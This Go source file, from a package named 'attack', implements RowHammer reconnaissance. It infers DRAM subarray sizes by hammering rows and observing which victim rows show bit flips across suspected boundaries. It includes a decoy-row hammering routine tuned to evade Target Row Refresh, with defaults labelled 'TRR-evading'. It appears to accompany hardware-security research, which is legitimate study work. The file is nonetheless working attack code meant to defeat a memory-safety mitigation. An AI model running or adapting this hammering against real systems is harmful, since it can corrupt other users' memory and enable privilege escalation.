package attack

import "fmt"

// This file implements the mFIT-style subarray size inference of §4.1: even
// without vendor cooperation, software can determine subarray boundaries by
// hammering rows and observing where attacks *fail* — disturbance does not
// cross subarray boundaries (§2.5), so a victim on the far side of a
// boundary never flips while a control victim on the near side does.
// Consistent failures at every multiple of n rows reveal an n-row subarray.

// Probe constants. Candidate subarray sizes are the powers of two from
// minCandidateRows to maxCandidateRows, the commodity range [155], tested
// ascending; the smallest size whose multiples all behave as boundaries is
// reported. With decoys, every round bursts decoyAmp activations on each
// decoy and aggAmp on the aggressor, then pads the first decoy to syncActs
// activations, phase-locking probes to a periodic TRR mechanism. Victims
// hold fillPattern and then its complement.
const (
	minCandidateRows      = 256
	maxCandidateRows      = 2048
	decoyAmp              = 400
	aggAmp                = 100
	syncActs              = 5_000
	fillPattern      byte = 0xAA
)

// InferenceConfig parameterizes the probe.
type InferenceConfig struct {
	// ActsPerAggressor is the hammer intensity per probe; it must exceed
	// the DIMM's threshold comfortably.
	ActsPerAggressor int
	// ProbesPerCandidate is how many boundaries to sample per candidate.
	ProbesPerCandidate int
	// Decoys is the number of high-amplitude decoy rows used to pin a
	// TRR sampler during probing (0 for DIMMs without TRR).
	Decoys int
}

// DefaultInferenceConfig sets TRR-evading probe parameters.
func DefaultInferenceConfig() InferenceConfig {
	return InferenceConfig{
		ActsPerAggressor:   20_000,
		ProbesPerCandidate: 3,
		Decoys:             8,
	}
}

// InferSubarraySize probes the target and returns the inferred rows per
// subarray. The target must expose a long contiguous run of rows (e.g. a
// PhysTarget over a whole bank).
func InferSubarraySize(t Target, cfg InferenceConfig) (int, error) {
	rows := t.Rows()
	if len(rows) == 0 {
		return 0, fmt.Errorf("attack: no rows to probe")
	}
	var best []RowRef
	for _, r := range runs(rows) {
		if len(r) > len(best) {
			best = r
		}
	}
	for candidate := minCandidateRows; candidate <= maxCandidateRows; candidate *= 2 {
		matched, conclusive := 0, 0
		for probe := 1; probe <= cfg.ProbesPerCandidate; probe++ {
			boundary := probe * candidate
			idx := boundary - best[0].Row
			if idx-blockRows-2-cfg.Decoys < 0 || idx+blockRows >= len(best) {
				break
			}
			crossFlipped, controlFlipped, err := probeBoundary(t, best, idx, cfg)
			if err != nil {
				return 0, err
			}
			// A probe with no control flips is inconclusive (the
			// block below the boundary happens to have no weak
			// cells).
			if !controlFlipped {
				continue
			}
			conclusive++
			if !crossFlipped {
				matched++
			}
		}
		if conclusive >= 2 && matched == conclusive {
			return candidate, nil
		}
	}
	return 0, fmt.Errorf("attack: no candidate size matched the failure pattern")
}

// blockRows is the probe block size: internal transformations permute rows
// within 8-row blocks at boundaries (scrambling) but never across them, so
// hammering all 8 media rows below a suspected boundary covers every
// internal position adjacent to it, and the cross victims' internal
// positions map back into the 8 media rows above it.
const blockRows = 8

// probeBoundary hammers each of the blockRows media rows below the
// suspected boundary (with decoy cover and TRR synchronization if
// configured) and reports whether any row above the boundary flipped
// (cross) and whether any row below did (control).
func probeBoundary(t Target, run []RowRef, idx int, cfg InferenceConfig) (cross, control bool, err error) {
	low := run[idx-blockRows : idx]
	high := run[idx : idx+blockRows]
	for _, pat := range []byte{fillPattern, ^fillPattern} {
		for _, r := range low {
			if err := t.FillRow(r, pat); err != nil {
				return false, false, err
			}
		}
		for _, r := range high {
			if err := t.FillRow(r, pat); err != nil {
				return false, false, err
			}
		}
		for _, agg := range low {
			if err := hammerCovered(t, run, agg, cfg); err != nil {
				return false, false, err
			}
			t.EndWindow() // fresh activation budget per aggressor
		}
		for _, r := range high {
			cs, err := t.CheckRow(r, pat)
			if err != nil {
				return false, false, err
			}
			if len(cs) > 0 {
				cross = true
			}
		}
		for _, r := range low {
			cs, err := t.CheckRow(r, pat)
			if err != nil {
				return false, false, err
			}
			if len(cs) > 0 {
				control = true
			}
		}
	}
	return cross, control, nil
}

// hammerCovered delivers cfg.ActsPerAggressor activations to agg, hidden
// behind decoy rows synchronized to the suspected TRR period.
func hammerCovered(t Target, run []RowRef, agg RowRef, cfg InferenceConfig) error {
	if cfg.Decoys == 0 {
		return t.Hammer(agg, cfg.ActsPerAggressor, 0)
	}
	decoys := run[:cfg.Decoys] // far from the probe area
	remaining := cfg.ActsPerAggressor
	for remaining > 0 {
		spent := 0
		for _, d := range decoys {
			if err := t.Hammer(d, decoyAmp, 0); err != nil {
				return err
			}
			spent += decoyAmp
		}
		burst := aggAmp
		if burst > remaining {
			burst = remaining
		}
		if err := t.Hammer(agg, burst, 0); err != nil {
			return err
		}
		spent += burst
		remaining -= burst
		// Synchronization padding on the first decoy.
		if syncActs > spent {
			if err := t.Hammer(decoys[0], syncActs-spent, 0); err != nil {
				return err
			}
		}
	}
	return nil
}
